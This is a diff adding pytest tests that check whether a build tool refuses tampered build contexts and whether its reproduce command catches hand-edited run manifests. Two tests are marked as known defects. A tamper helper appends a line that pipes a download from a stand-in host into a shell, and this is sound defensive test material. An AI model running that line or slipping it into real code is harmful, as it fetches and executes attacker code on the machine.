@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import contextlib
 import io
+import json
 import os
 import re
 import subprocess
@@ -524,3 +525,187 @@ def test_huge_env_table_compiles_or_is_refused_quickly(tally) -> None:
     with contextlib.suppress(SpecError):
         compile_spec(source, "t.toml", TINY_LOCK.read_bytes())
     assert time.monotonic() - started < 10
+
+
+# ---------------------------------------------------------------------------------------------
+# Tampered build contexts: the build sends exactly the compiler's files, or refuses.
+
+
+class _StandInEngine:
+    """The runtime's Engine seam with no daemon: no image exists; `build` records the files
+    it would have sent. `during_find` / `during_build` simulate another process editing the
+    context folder at that moment."""
+
+    endpoint = "stand-in"
+
+    def __init__(self, during_find: Any = None, during_build: Any = None) -> None:
+        self.during_find, self.during_build = during_find, during_build
+        self.sent: dict[str, bytes] | None = None
+
+    def ping(self) -> None:
+        return None
+
+    def find_image(self, ref: str) -> None:
+        if self.during_find is not None and ref.startswith("qlc/"):
+            self.during_find()
+        return None
+
+    def build(self, context_dir: Path, tag: str, buildargs: Any, labels: Any, on_line: Any) -> str:
+        if self.during_build is not None:
+            self.during_build(context_dir)
+        self.sent = {p.name: p.read_bytes() for p in context_dir.iterdir() if p.is_file()}
+        return "sha256:" + "0" * 64
+
+
+def _context_dir(project: Path) -> Path:
+    (folder,) = (project / ".qlc" / "contexts").iterdir()
+    return folder
+
+
+def _tamper(folder: Path) -> None:
+    with (folder / "train.py").open("a") as handle:
+        handle.write("\nimport os; os.system('curl evil.example | sh')\n")
+
+
+def test_build_rewrites_a_context_edited_since_the_last_build(tmp_path: Path, tally) -> None:
+    tally()
+    from qlc.runtime.build import build, compile_for_build
+
+    spec = tiny_project(tmp_path / "p")
+    build(spec, "base", project_dir=tmp_path / "p", engine=_StandInEngine())  # type: ignore[arg-type]
+    _tamper(_context_dir(tmp_path / "p"))
+    engine = _StandInEngine()
+    build(spec, "base", project_dir=tmp_path / "p", engine=engine)  # type: ignore[arg-type]
+    expected = compile_for_build(spec, tmp_path / "p").context.files
+    assert engine.sent is not None
+    assert {k: v for k, v in engine.sent.items() if k in expected} == expected
+    assert set(engine.sent) - set(expected) <= {".qlc-context"}
+
+
+def test_build_refuses_a_context_changed_after_it_was_written(tmp_path: Path, tally) -> None:
+    tally()
+    from qlc.runtime.build import BuildFailure, build
+
+    project = tmp_path / "p"
+    spec = tiny_project(project)
+    engine = _StandInEngine(during_find=lambda: _tamper(_context_dir(project)))
+    with pytest.raises(BuildFailure, match="changed after it was compiled"):
+        build(spec, "base", project_dir=project, engine=engine)  # type: ignore[arg-type]
+    assert engine.sent is None, "the tampered files reached the daemon"
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="defect: runtime/build.py checks the context folder, then "
+    "hands the folder (re-read later by the SDK) to the daemon: an edit in between "
+    "is built under the compiler's content-hash label",
+)
+def test_build_sends_the_checked_bytes_not_a_folder_read_again(tmp_path: Path, tally) -> None:
+    tally()
+    from qlc.runtime.build import build, compile_for_build
+
+    project = tmp_path / "p"
+    spec = tiny_project(project)
+    engine = _StandInEngine(during_build=_tamper)
+    try:
+        build(spec, "base", project_dir=project, engine=engine)  # type: ignore[arg-type]
+    except Exception:  # refusing is a pass
+        return
+    expected = compile_for_build(spec, project).context.files
+    assert engine.sent is not None
+    assert engine.sent["train.py"] == expected["train.py"], "tampered train.py was built"
+
+
+# ---------------------------------------------------------------------------------------------
+# A manifest edited by hand: `qlc reproduce` must notice before it reruns anything.
+
+
+class _NoEngine:
+    endpoint = "none"
+
+    def __getattr__(self, name: str) -> Any:
+        raise AssertionError(f"reproduce used the engine ({name}) for an edited manifest")
+
+
+def _finished_run(tmp_path: Path) -> Path:
+    """A run directory as the runtime leaves a succeeded run (no training needed)."""
+    from qlc.runtime.manifest import finalize
+
+    project = tmp_path / "p"
+    spec = tiny_project(project)
+    run_dir = project / "runs" / "tiny" / "run-1"
+    (run_dir / "adapter").mkdir(parents=True)
+    (run_dir / "adapter" / "adapter_model.safetensors").write_bytes(os.urandom(256))
+    (run_dir / "adapter" / "adapter_config.json").write_text('{"r": 8}')
+    from reliability_support import hash_tree, sha256_file
+
+    manifest = {
+        "_type": "https://in-toto.io/Statement/v1",
+        "predicateType": "urn:qlc:manifest:v1",
+        "subject": [
+            {"name": f"adapter/{n}", "digest": {"sha256": h}}
+            for n, h in hash_tree(run_dir / "adapter").items()
+        ],
+        "predicate": {
+            "status": "succeeded",
+            "error": None,
+            "metrics": {"final_loss": 6.5},
+            "spec": {"name": "tiny.toml", "sha256": sha256_file(spec)},
+            "lock_sha256": sha256_file(spec.with_suffix(".lock")),
+            "inputs": {
+                "model": {"files": hash_tree(project / "tiny" / "model")},
+                "data": {"files": hash_tree(project / "tiny" / "data.jsonl")},
+            },
+            "run": {"smoke": False},
+            "environment": {},
+        },
+    }
+    (run_dir / "manifest.json").write_text(json.dumps(manifest))
+    host = _host_view()
+    from dataclasses import replace
+
+    final = finalize(run_dir, replace(host, exit_code=0, spec_path=str(spec)))
+    assert final.status == "succeeded", final.problems
+    return run_dir
+
+
+def test_reproduce_detects_a_hand_edited_manifest(tmp_path: Path, tally) -> None:
+    tally()
+    from qlc.runtime.reproduce import reproduce
+
+    run_dir = _finished_run(tmp_path)
+    data = json.loads((run_dir / "manifest.json").read_text())
+    data["predicate"]["metrics"]["final_loss"] = 0.01  # a better-looking run
+    (run_dir / "manifest.json").write_text(json.dumps(data))
+    result = reproduce(run_dir / "manifest.json", project_dir=tmp_path / "p", engine=_NoEngine())  # type: ignore[arg-type]
+    assert not result.reproduced
+    assert any(v.item == "manifest" and not v.ok and "edited" in v.detail for v in result.verdicts)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="defect: runtime/reproduce.py trusts manifest.sha256 "
+    "alone; an edit that also rewrites it (one sha256sum) is not caught although "
+    "the subjects no longer hash to the adapter files (check_subjects)",
+)
+def test_reproduce_checks_the_subjects_against_the_run_files(tmp_path: Path, tally) -> None:
+    tally()
+    import hashlib
+
+    from qlc.runtime.reproduce import ReproduceError, reproduce
+
+    run_dir = _finished_run(tmp_path)
+    data = json.loads((run_dir / "manifest.json").read_text())
+    data["subject"][0]["digest"]["sha256"] = "0" * 64  # claims another adapter
+    text = json.dumps(data)
+    (run_dir / "manifest.json").write_text(text)
+    digest = hashlib.sha256(text.encode()).hexdigest()
+    (run_dir / "manifest.sha256").write_text(f"{digest}  manifest.json\n")
+    try:
+        result = reproduce(
+            run_dir / "manifest.json", project_dir=tmp_path / "p", engine=_NoEngine()
+        )  # type: ignore[arg-type]
+    except ReproduceError:
+        return
+    assert not result.reproduced
+    assert any(not v.ok and "subject" in v.detail for v in result.verdicts)
